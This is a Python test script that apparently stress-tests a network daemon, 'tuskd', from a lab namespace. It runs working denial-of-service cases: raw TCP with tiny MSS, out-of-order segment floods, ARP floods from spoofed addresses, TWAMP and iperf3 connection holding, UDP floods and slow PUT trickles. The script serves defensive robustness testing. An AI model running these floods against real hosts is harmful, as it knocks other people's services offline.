#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""hostile_net.py: attacks on tuskd below HTTP (TCP, ARP, TWAMP, iperf3),
run from the lab's peer namespace; each case prints one JSON line of
what it did and saw. Raw-TCP cases speak from an address the peer's
kernel does not own (it neither answers nor resets), announced to tuskd
by an ARP request and defended by answering tuskd's ARP requests.

usage: hostile_net.py IFACE DST_MAC DST_IP CASE ARGS...
CASE:
  tiny_mss SRC_IP PORT PATH SECS MSS
      a raw connection whose SYN offers MSS MSS GETs PATH and ACKs all
      it sees for SECS s; reports the segments and payload received
      and the smallest payload seen.
  ofo SRC_IP PORT CONNS SECS
      CONNS raw connections, each sending 1-byte segments at every
      other sequence number from 2 bytes past RCV.NXT (holes never
      filled) as far as the window lets, again and again for SECS s.
  arp_flood COUNT SECS
      ARP requests for DST_IP from COUNT addresses 10.77.(1..).x for
      SECS s, as fast as the socket takes them.
  twamp_hold PORT CONNS SECS SRC
      CONNS TWAMP-Control connections from SRC, each through the
      set-up (unauthenticated) to Server-Start, then held, sending
      nothing, for SECS s; reports how many reached Server-Start.
  twamp_try PORT SRC
      one TWAMP-Control connection from SRC: exit 0 if Server-Start is
      reached.
  udp_flood PORT SECS SRC
      1000-byte TWAMP-Light test packets to PORT from SRC as fast as the
      socket takes them for SECS s; reports sent and reflected.
  put_trickle PORT SRCS PER_SRC SECS RATE
      PER_SRC PUTs from each address of SRCS (comma-separated), each
      declaring a 256 MiB body and sending RATE bytes of it a second (above
      the body rate minimum) for SECS s.
  iperf3_hold PORT SECS
      iperf3 control connections (the 37-byte cookie, then nothing),
      each opened again as soon as tuskd drops the last, for SECS s.
"""
import json
import os
import random
import socket
import struct
import sys
import time

from inject import cksum  # RFC 1071, beside this file

ETH_P_IPV4, ETH_P_ARP, ETH_P_ALL = 0x0800, 0x0806, 0x0003
IPPROTO_TCP = 6
TH_FIN, TH_SYN, TH_RST, TH_PSH, TH_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
WINDOW = 65535
# The ofo case: tuskd's initial receive window (TUSK_TCP_RCV_SPACE_INIT)
# and the 1-byte segments sent on each connection before a new one.
OFO_SPAN = 128 << 10
OFO_BATCH = 30000
# The put_trickle case's declared body: 256 MiB at 2 KiB/s lasts 36 h.
TRICKLE_LEN = 256 << 20
TRICKLE_OPEN_BATCH = 100


def mac_of(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


class Wire:
    """Frames in and out of IFACE (raw AF_PACKET, every protocol)."""

    def __init__(self, iface, dst_mac):
        self.mac = mac_of(iface)
        self.dmac = bytes.fromhex(dst_mac.replace(":", ""))
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                               socket.htons(ETH_P_ALL))
        self.s.bind((iface, ETH_P_ALL))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.s.setblocking(False)
        self.own = set()  # addresses we answer ARP for

    def send(self, etype, payload, dst=None):
        self.s.send((dst or self.dmac) + self.mac +
                    struct.pack("!H", etype) + payload)

    def arp(self, op, sip, tip, tha=b"\0" * 6, dst=None):
        self.send(ETH_P_ARP, struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IPV4, 6,
                                         4, op, self.mac,
                                         socket.inet_aton(sip), tha,
                                         socket.inet_aton(tip)), dst)

    def frames(self):
        """Frames waiting now; ARP requests for our addresses answered."""
        while True:
            try:
                f, addr = self.s.recvfrom(65536)
            except BlockingIOError:
                return
            if addr[2] == socket.PACKET_OUTGOING:
                continue
            et = f[12:14]
            if et == b"\x08\x06" and len(f) >= 42 and f[20:22] == b"\0\1":
                tip = socket.inet_ntoa(f[38:42])
                if tip in self.own:
                    self.arp(2, tip, socket.inet_ntoa(f[28:32]), f[22:28],
                             f[22:28])
                continue
            if et == b"\x08\x00":
                yield f[14:]


def tcp_seg(src, dst, sport, dport, seq, ack, flags, data=b"", opts=b"",
            win=WINDOW):
    off = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff,
                      ack & 0xffffffff, off << 4, flags, win, 0, 0) + opts + \
        data
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + \
        struct.pack("!BBH", 0, IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", cksum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     IPPROTO_TCP, 0, socket.inet_aton(src),
                     socket.inet_aton(dst))
    return ip[:10] + struct.pack("!H", cksum(ip)) + ip[12:] + tcp


def tcp_parse(ip, src, sport):
    """(dport, seq, ack, flags, win, payload) of a segment from src:sport
    to us, or None."""
    if len(ip) < 40 or ip[9] != IPPROTO_TCP or ip[12:16] != \
            socket.inet_aton(src):
        return None
    ihl = (ip[0] & 0x0f) * 4
    tot = struct.unpack("!H", ip[2:4])[0]
    t = ip[ihl:tot]
    sp, dp, seq, ack, off, fl, win = struct.unpack("!HHIIBBH", t[:16])
    if sp != sport:
        return None
    return dp, seq, ack, fl, win, t[(off >> 4) * 4:]


class RawConn:
    """A TCP client in user space, just enough to attack with."""

    def __init__(self, w, src, dst, dport, sport, mss=None, wscale=None):
        self.w, self.src, self.dst, self.dport = w, src, dst, dport
        self.sport = sport
        self.iss = struct.unpack("!I", os.urandom(4))[0]
        self.snd_nxt = self.iss + 1
        self.rcv_nxt = None
        self.peer_win = 0
        self.opts = b"" if mss is None else struct.pack("!BBH", 2, 4, mss)
        if wscale is not None:  # NOP, window scale (RFC 7323 2.2)
            self.opts += struct.pack("!BBBB", 1, 3, 3, wscale)

    def out(self, flags, data=b"", seq=None, opts=b""):
        self.w.send(ETH_P_IPV4, tcp_seg(
            self.src, self.dst, self.sport, self.dport,
            self.snd_nxt if seq is None else seq, self.rcv_nxt or 0, flags,
            data, opts))

    def syn(self):
        self.w.send(ETH_P_IPV4, tcp_seg(self.src, self.dst, self.sport,
                                        self.dport, self.iss, 0, TH_SYN,
                                        opts=self.opts))


def route(w, conns, src, dport, on_seg):
    """Dispatch waiting frames to the connection of their port."""
    by_port = {c.sport: c for c in conns}
    n = 0
    for ip in w.frames():
        p = tcp_parse(ip, DST, dport)
        if p is None or p[0] not in by_port:
            continue
        on_seg(by_port[p[0]], p)
        n += 1
    return n


def handshake(w, conns, dport, secs=5.0):
    """SYN from each; ACK each SYN-ACK. Returns the ones established."""
    for c in conns:
        c.syn()

    def on_seg(c, p):
        _, seq, ack, fl, win, _ = p
        if fl & TH_SYN and fl & TH_ACK and ack == c.snd_nxt:
            c.rcv_nxt = seq + 1
            c.peer_win = win
            c.out(TH_ACK)

    t0 = time.time()
    while time.time() - t0 < secs:
        route(w, conns, None, dport, on_seg)
        if all(c.rcv_nxt is not None for c in conns):
            break
        time.sleep(0.01)
    return [c for c in conns if c.rcv_nxt is not None]


def announce(w, src):
    w.own.add(src)
    w.arp(1, src, DST)
    time.sleep(0.2)
    for _ in w.frames():
        pass


def tiny_mss(w, src, port, path, secs, mss):
    announce(w, src)
    c = RawConn(w, src, DST, int(port), 40001, int(mss))
    if not handshake(w, [c], int(port)):
        sys.exit("tiny_mss: no handshake")
    c.out(TH_ACK | TH_PSH, b"GET %s HTTP/1.1\r\nHost: t\r\n%s\r\n" %
          (path.encode(), AUTH))
    c.snd_nxt += len(b"GET %s HTTP/1.1\r\nHost: t\r\n%s\r\n" %
                     (path.encode(), AUTH))
    st = {"segs": 0, "bytes": 0, "min": 1 << 30, "max": 0}

    def on_seg(c, p):
        _, seq, _, fl, _, data = p
        if data:
            st["segs"] += 1
            st["bytes"] += len(data)
            st["min"] = min(st["min"], len(data))
            st["max"] = max(st["max"], len(data))
            end = seq + len(data)
            if (end - c.rcv_nxt) & 0x80000000 == 0:
                c.rcv_nxt = end
        if fl & (TH_RST | TH_FIN):
            st["closed"] = fl

    t0 = time.time()
    while time.time() - t0 < float(secs) and "closed" not in st:
        if route(w, [c], src, int(port), on_seg):
            c.out(TH_ACK)
        else:
            time.sleep(0.001)
    c.out(TH_RST)
    st["secs"] = round(time.time() - t0, 1)
    print(json.dumps(dict(case="tiny_mss", mss=int(mss), **st)))


def ofo(w, src, port, nconns, secs):
    announce(w, src)
    port = int(port)
    conns = [RawConn(w, src, DST, port, 41000 + i, wscale=7)
             for i in range(int(nconns))]
    conns = handshake(w, conns, port)
    sent = 0
    t0 = time.time()
    # holes at every other byte from snd_nxt + 1 over the initial window
    # (128 KiB; window scaling offered so that all of it is open), in
    # random order: each lands amid the queue's extents
    offs = list(range(1, OFO_SPAN, 2))
    random.shuffle(offs)
    while time.time() - t0 < float(secs):
        for c in conns:
            for off in offs[:OFO_BATCH]:
                c.out(TH_ACK, b"x", seq=c.snd_nxt + off)
                sent += 1
            # a fresh connection each round (the old one reset): the
            # queue's fill is the work
            c.out(TH_RST)
        fresh = [RawConn(w, src, DST, port, c.sport + len(conns),
                         wscale=7) for c in conns]
        conns = handshake(w, fresh, port, 2.0) or conns
    for c in conns:
        c.out(TH_RST)
    print(json.dumps({"case": "ofo", "conns": len(conns), "segs": sent,
                      "secs": round(time.time() - t0, 1)}))


def arp_flood(w, count, secs):
    n = 0
    t0 = time.time()
    while time.time() - t0 < float(secs):
        for i in range(int(count)):
            w.arp(1, "10.77.%d.%d" % (1 + i // 250, 1 + i % 250), DST)
            n += 1
        for _ in w.frames():
            pass
    print(json.dumps({"case": "arp_flood", "sent": n,
                      "secs": round(time.time() - t0, 1)}))


def twamp_setup(port, src):
    """A TWAMP-Control connection from src to Server-Start (RFC 5357
    3.1), or None."""
    try:
        s = socket.create_connection((DST, int(port)), timeout=5,
                                     source_address=(src, 0))
    except OSError:
        return None
    try:
        greet = recv_n(s, 64)
        if not greet or struct.unpack("!I", greet[12:16])[0] & 1 == 0:
            s.close()
            return None
        s.sendall(struct.pack("!I", 1) + b"\0" * 160)  # mode 1
        start = recv_n(s, 48)
        if start is None or start[15] != 0:
            s.close()
            return None
        return s
    except OSError:
        s.close()
        return None


def recv_n(s, n):
    d = b""
    while len(d) < n:
        x = s.recv(n - len(d))
        if not x:
            return None
        d += x
    return d


def twamp_hold(port, nconns, secs, src):
    held = []
    for _ in range(int(nconns)):
        s = twamp_setup(port, src)
        if s is not None:
            held.append(s)
    print(json.dumps({"case": "twamp_hold", "held": len(held)}), flush=True)
    time.sleep(float(secs))
    alive = 0
    for s in held:
        s.settimeout(0.1)
        try:
            alive += 0 if s.recv(1) == b"" else 1
        except socket.timeout:
            alive += 1
        except OSError:
            pass
    print(json.dumps({"case": "twamp_hold", "alive_at_end": alive}))


def udp_flood(port, secs, src):
    """TWAMP-Light test packets (RFC 5357 4.1.2, 14 bytes and padding to
    a 1000-byte datagram) from src as fast as the socket takes them;
    reports those sent and the reflections read back."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    s.setblocking(False)
    pkt = bytearray(1000)
    sent = got = 0
    t0 = time.time()
    while time.time() - t0 < float(secs):
        struct.pack_into("!I", pkt, 0, sent & 0xffffffff)
        try:
            s.sendto(pkt, (DST, int(port)))
            sent += 1
        except BlockingIOError:
            pass
        try:
            while s.recv(2048):
                got += 1
        except BlockingIOError:
            pass
    print(json.dumps({"case": "udp_flood", "sent": sent, "reflected": got,
                      "secs": round(time.time() - t0, 1)}))


def put_trickle(port, srcs, per_src, secs, rate):
    """per_src PUTs from each of srcs (comma-separated), each declaring a
    TRICKLE_LEN body and sending rate bytes of it a second, opened
    TRICKLE_OPEN_BATCH a second so that every one keeps its rate from
    the start; reports the connections opened and how many were still
    open at the end."""
    to_open = [src for src in srcs.split(",") for _ in range(int(per_src))]
    head = b"PUT /trickle-%%d.bin HTTP/1.1\r\nHost: t\r\n%sContent-Length: " \
        b"%d\r\n\r\n" % (AUTH, TRICKLE_LEN)
    chunk = b"p" * int(rate)
    socks, opened = [], 0
    t0 = last = time.time()
    while time.time() - t0 < float(secs) and (socks or to_open):
        t1 = time.time()
        # rate bytes for every second since the last round, however
        # long the round took (opening connections takes a while)
        chunk = b"p" * min(int(int(rate) * (t1 - last)) + 1, 65536)
        last = t1
        live = []
        for k in socks:
            try:
                k.send(chunk)
                live.append(k)
            except BlockingIOError:
                live.append(k)
            except OSError:
                k.close()
        socks = live
        for src in to_open[:TRICKLE_OPEN_BATCH]:
            try:
                k = socket.create_connection((DST, int(port)), timeout=5,
                                             source_address=(src, 0))
                k.sendall(head % opened + chunk)
                k.setblocking(False)
                socks.append(k)
                opened += 1
            except OSError:
                pass
        to_open = to_open[TRICKLE_OPEN_BATCH:]
        time.sleep(max(0.0, 1.0 - (time.time() - t1)))
    print(json.dumps({"case": "put_trickle", "opened": opened,
                      "open_at_end": len(socks),
                      "secs": round(time.time() - t0, 1)}), flush=True)
    # TRICKLE_OPEN_BATCH a second: tuskd discards an aborted upload's
    # file on its polling lcore (ftruncate, unlink), and a thousand at
    # once stall it for seconds (an open finding, README "Under hostile
    # clients"); this case is about holding the table, not that
    while socks:
        for k in socks[:TRICKLE_OPEN_BATCH]:
            k.close()
        socks = socks[TRICKLE_OPEN_BATCH:]
        time.sleep(1)


def iperf3_hold(port, secs):
    n = 0
    t0 = time.time()
    while time.time() - t0 < float(secs):
        try:
            s = socket.create_connection((DST, int(port)), timeout=5)
        except OSError:
            time.sleep(0.1)
            continue
        s.sendall(os.urandom(18).hex().encode()[:36] + b"\0")
        n += 1
        s.settimeout(max(0.1, float(secs) - (time.time() - t0)))
        try:
            while s.recv(4096):
                pass
        except OSError:
            pass
        s.close()
    print(json.dumps({"case": "iperf3_hold", "conns": n}))


def main():
    global DST, AUTH
    if len(sys.argv) < 5:
        sys.exit(__doc__)
    iface, dmac, DST, case = sys.argv[1:5]
    a = sys.argv[5:]
    tok = os.environ.get("TUSK_TOKEN", "")
    AUTH = b"Authorization: Bearer %s\r\n" % tok.encode() if tok else b""
    if case in ("twamp_hold", "twamp_try", "iperf3_hold", "udp_flood",
                "put_trickle"):
        if case == "put_trickle":
            put_trickle(*a)
        elif case == "twamp_hold":
            twamp_hold(*a)
        elif case == "udp_flood":
            udp_flood(*a)
        elif case == "iperf3_hold":
            iperf3_hold(*a)
        else:
            sys.exit(0 if twamp_setup(*a) is not None else 1)
        return
    w = Wire(iface, dmac)
    {"tiny_mss": tiny_mss, "ofo": ofo, "arp_flood": arp_flood}[case](w, *a)


main()
